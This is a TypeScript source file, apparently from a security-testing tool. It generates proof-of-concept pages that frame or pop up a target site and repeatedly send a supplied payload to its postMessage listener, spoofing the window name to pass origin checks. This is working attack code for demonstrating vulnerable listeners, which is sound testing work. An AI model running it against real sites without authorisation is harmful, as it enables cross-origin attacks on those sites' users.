/** Ways that the page of a proof offers; its script finds them by these names. */
export type Way = 'frame' | 'popup';

/** The script of a proof, after the constants `target`, `payload`, `ports`, `path`, `servedFrom` and `start`. */
export const POC_SCRIPT = `const EVERY_MS = 400;
const MOST = 50;
// A target may say something of its own while it starts: that is no answer.
const LEAST = 3;

const log = document.getElementById('log');
const say = (text) => {
  const line = document.createElement('li');
  line.textContent = text;
  log.append(line);
};

// The window of the listener: the target's own, or a frame in it, once that is there.
const listening = (top) => path.reduce((inner, index) => (inner && index < inner.length ? inner[index] : null), top);

let round = 0;
function attack(top, isGone) {
  const mine = ++round;
  let sent = 0;
  let answered = false;
  const onAnswer = ({ data }) => {
    if (mine !== round) return;
    answered = true;
    say('The target answered: ' + describe(data));
  };
  addEventListener('message', (event) => {
    if (sent > 0 && event.source === listening(top)) onAnswer(event);
  });
  const makePort = () => {
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = onAnswer;
    return port2;
  };
  // When the target's listener is there cannot be seen from here: send again until it answers.
  const send = () => {
    if (mine !== round) return;
    if (isGone()) return say('The target is gone.');
    if (answered && sent >= LEAST) return say('Sent ' + sent + ' times. Done.');
    const to = listening(top);
    if (to) {
      to.postMessage(payload, '*', Array.from({ length: ports }, makePort));
      if (++sent === 1) say('Sent for the first time.');
    }
    if (sent < MOST) return void setTimeout(send, EVERY_MS);
    say('Sent ' + sent + ' times. No answer: look at the target for what happened.');
  };
  send();
}

function describe(data) {
  try {
    return JSON.stringify(data) || String(data);
  } catch {
    return String(data);
  }
}

const ways = {
  frame() {
    const frame = document.createElement('iframe');
    frame.id = 'target';
    frame.title = 'Target';
    // A listener may go by the name of its window, which is whoever opens it to choose.
    if (servedFrom !== null) frame.name = servedFrom;
    frame.src = target;
    let loads = 0;
    frame.addEventListener('load', () => {
      if (++loads === 1) attack(frame.contentWindow, () => !frame.isConnected);
      else say('The frame shows another page now.');
    });
    document.getElementById('target')?.remove();
    document.body.append(frame);
  },
  popup() {
    const popup = open(target, 'earshot-target');
    if (!popup) return say('The browser blocked the popup: allow popups for this page.');
    attack(popup, () => popup.closed);
  },
};

if (servedFrom !== null && self.origin !== servedFrom)
  say('This page is served from ' + self.origin + ': the listener lets ' + servedFrom + ' in.');
for (const button of document.querySelectorAll('button[data-way]'))
  button.addEventListener('click', () => ways[button.dataset.way]());
if (start) ways[start]();
`;
